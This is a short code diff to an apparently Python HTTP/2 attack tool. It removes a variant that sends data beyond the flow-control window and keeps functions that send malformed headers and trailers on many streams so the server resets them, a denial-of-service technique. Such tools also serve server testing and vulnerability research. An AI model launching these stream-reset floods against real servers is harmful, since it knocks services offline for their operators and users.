@@ -12,7 +12,6 @@ import json
 import select
 import selectors
 import socket
-import struct
 import sys
 import threading
 import time
@@ -24,7 +23,6 @@ from wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, 
 ATTACKS = {}
 _BATCH = 100  # of streams
 _STREAMS_MAX = 1000  # that the server lets a connection open
-_STANDARD_WINDOW = 65535
 
 
 def attack(make):
@@ -105,14 +103,6 @@ def made_you_reset_by_malformed_headers():
 def made_you_reset_by_malformed_trailers():
     encoded, trailers = block("Talk"), b"\x82"  # :method
     yield from on_streams(lambda stream: headers(stream, encoded) + headers(stream, trailers, END_STREAM))
-
-
-@attack
-def made_you_reset_by_data_beyond_the_window():
-    """Who has not acknowledged our settings has the window of the standard."""
-    encoded = block("Talk")
-    beginning = struct.pack(">BI", 0, 2**20) + bytes(_STANDARD_WINDOW)
-    yield from on_streams(lambda stream: headers(stream, encoded) + data(stream, beginning, 0))
 
 
 @attack
